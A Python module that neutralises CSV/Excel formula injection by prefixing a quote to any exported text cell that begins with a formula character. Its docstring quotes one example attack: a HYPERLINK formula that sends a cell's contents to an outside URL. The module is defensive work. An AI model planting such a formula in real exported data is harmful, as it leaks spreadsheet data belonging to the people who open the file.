"""One neutraliser for every text cell that leaves the system as CSV or Excel.

Excel runs a cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) as a
formula — OWASP's "CSV injection": a user name like ``=HYPERLINK("https://…?leak="&A2,"查看")``
would become a live link in an administrator's spreadsheet. Such a text is prefixed with ``'`` so
Excel shows it as it was typed. Numbers are left alone (a negative number is not a formula).
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may hold it: text that could run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """Every text cell of ``frame`` through :func:`safe_cell` (a copy; numbers untouched)."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            text = out[col].astype("string")
            risky = text.str.startswith(FORMULA_START).fillna(False).astype(bool)
            out[col] = out[col].where(~risky, "'" + text)
    return out
